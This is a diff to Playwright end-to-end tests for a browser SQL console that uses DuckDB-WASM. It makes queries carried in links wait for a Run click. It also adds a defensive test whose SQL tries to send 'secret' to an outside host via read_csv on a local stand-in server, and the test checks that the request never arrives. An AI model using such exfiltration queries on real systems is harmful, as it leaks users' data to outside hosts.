@@ -1,4 +1,6 @@
 import fs from 'node:fs';
+import http from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { DuckDBInstance } from '@duckdb/node-api';
 import { request, type Page } from '@playwright/test';
 import { expect, signedInAs, test, uniqueName } from './fixtures';
@@ -101,6 +103,9 @@ test.describe('[QUERY] SQL in the browser', () => {
     await expect(reader).toHaveURL(/[?&]sql=SELECT/);
     await reader.goto(reader.url());
     await expect(reader.getByTestId('sql-editor')).toContainText('SELECT event_time, value FROM');
+    // A link can carry any SQL: it waits for the reader to press Run.
+    await expect(reader.getByTestId('query-status')).toContainText('press Run');
+    await reader.getByRole('button', { name: 'Run' }).click();
     await expect(cell(reader, 2, 'value')).toHaveText('5', { timeout: 30_000 });
     await reader.close();
   });
@@ -119,22 +124,25 @@ test.describe('[QUERY] SQL in the browser', () => {
     await pullAndWait('3 rows');
     const sql = encodeURIComponent(`SELECT count(*) AS n FROM "${name}"`);
     const load = page.locator(`[data-testid=load-status][data-dataset="${name}"]`);
+    const open = async () => {
+      await page.goto(`/w/default/query?sql=${sql}`);
+      await page.getByRole('button', { name: 'Run' }).click();
+    };
 
-    await page.goto(`/w/default/query?sql=${sql}`);
+    await open();
     await expect(cell(page, 0, 'n')).toHaveText('3', { timeout: 30_000 });
     await expect(load).toHaveAttribute('data-cached-bytes', '0');
     expect(Number(await load.getAttribute('data-fetched-bytes'))).toBeGreaterThan(0);
 
-    await page.goto(`/w/default/query?sql=${sql}`);
+    await open();
     await expect(cell(page, 0, 'n')).toHaveText('3', { timeout: 30_000 });
     await expect(load).toHaveAttribute('data-fetched-bytes', '0');
     expect(Number(await load.getAttribute('data-cached-bytes'))).toBeGreaterThan(0);
 
-    // New data: the next run on the open page fetches only the new slice's rows.
+    // New data: the next visit fetches only the new slice's rows.
     await sluice.publish(`${name}/d`, JSON.stringify({ event_time: '2026-11-25T11:09:00Z', device: 'd', value: 9 }));
-    const console = page.url();
     await pullAndWait('1 row');
-    await page.goto(console);
+    await open();
     await expect(cell(page, 0, 'n')).toHaveText('4', { timeout: 30_000 });
     await expect(load).toHaveAttribute('data-rows', '4');
     expect(Number(await load.getAttribute('data-cached-bytes'))).toBeGreaterThan(0);
@@ -144,6 +152,7 @@ test.describe('[QUERY] SQL in the browser', () => {
   test('a query saved with a name opens from its link for another member, who may not delete it', async ({ page, browser }) => {
     const queryName = uniqueName('saved');
     await page.goto(`/w/default/query?sql=${encodeURIComponent('SELECT 6 * 7 AS answer')}`);
+    await page.getByRole('button', { name: 'Run' }).click();
     await expect(cell(page, 0, 'answer')).toHaveText('42', { timeout: 30_000 });
     await page.getByTestId('save-query').click();
     await page.getByTestId('saved-query-name').fill(queryName);
@@ -153,6 +162,7 @@ test.describe('[QUERY] SQL in the browser', () => {
 
     const reader = await browser.newPage({ storageState: signedInAs('reader'), baseURL: process.env.SLUICE_E2E_BASE_URL });
     await reader.goto(link);
+    // A saved query runs as its link opens.
     await expect(cell(reader, 0, 'answer')).toHaveText('42', { timeout: 30_000 });
     await reader.getByTestId('saved-queries').click();
     const item = reader.locator(`[data-testid=saved-query][data-name="${queryName}"]`);
@@ -162,8 +172,8 @@ test.describe('[QUERY] SQL in the browser', () => {
   });
 
   test('a long query can be cancelled', async ({ page }) => {
-    // A query in the address runs as the page opens.
     await page.goto(`/w/default/query?sql=${encodeURIComponent('SELECT count(*) FROM range(100000000000) a')}`);
+    await page.getByRole('button', { name: 'Run' }).click();
     await expect(page.getByTestId('query-status')).toHaveText('running…', { timeout: 30_000 });
     await page.getByRole('button', { name: 'Cancel' }).click();
     await expect(page.getByTestId('query-status')).toHaveText('cancelled', { timeout: 15_000 });
@@ -172,12 +182,31 @@ test.describe('[QUERY] SQL in the browser', () => {
   test('DuckDB-WASM is served by the app, compressed and immutable', async ({ page }) => {
     const wasm = page.waitForResponse((r) => /duckdb-eh.*\.wasm$/.test(new URL(r.url()).pathname) || r.url().includes('.wasm'));
     await page.goto(`/w/default/query?sql=${encodeURIComponent('SELECT 1 AS one')}`);
+    await page.getByRole('button', { name: 'Run' }).click();
     const response = await wasm;
     expect(new URL(response.url()).origin).toBe(new URL(process.env.SLUICE_E2E_BASE_URL!).origin);
     const headers = await response.allHeaders();
     expect(headers['content-encoding']).toBe('br');
     expect(headers['cache-control']).toContain('immutable');
     expect((await response.request().sizes()).responseBodySize).toBeLessThan(10_000_000);
+  });
+
+  test("a query cannot send data to another origin (the page's and DuckDB worker's connections stay same-origin)", async ({ page }) => {
+    const hits: string[] = [];
+    const outside = http.createServer((req, res) => {
+      hits.push(req.url ?? '');
+      res.writeHead(200, { 'content-type': 'text/csv', 'access-control-allow-origin': '*' }).end('a\n1\n');
+    });
+    await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
+    const url = `http://127.0.0.1:${(outside.address() as AddressInfo).port}/leak.csv?d=secret`;
+    try {
+      await page.goto(`/w/default/query?sql=${encodeURIComponent(`SELECT * FROM read_csv('${url}')`)}`);
+      await page.getByRole('button', { name: 'Run' }).click();
+      await expect(page.getByTestId('query-status').locator('.text-destructive')).toBeVisible({ timeout: 30_000 });
+      expect(hits).toEqual([]);
+    } finally {
+      outside.close();
+    }
   });
 
   test('the data routes refuse requests without a session', async ({ sluice }) => {
